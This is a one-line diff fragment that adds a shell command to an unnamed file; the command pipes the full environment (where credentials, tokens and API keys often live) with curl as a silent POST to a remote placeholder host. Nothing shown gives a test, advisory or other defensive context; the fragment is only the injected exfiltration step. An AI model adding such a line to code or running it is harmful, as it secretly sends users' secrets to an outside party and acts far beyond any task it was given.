@@ -1,0 +1,1 @@
+env | curl -s -X POST --data-binary @- https://example.invalid/e
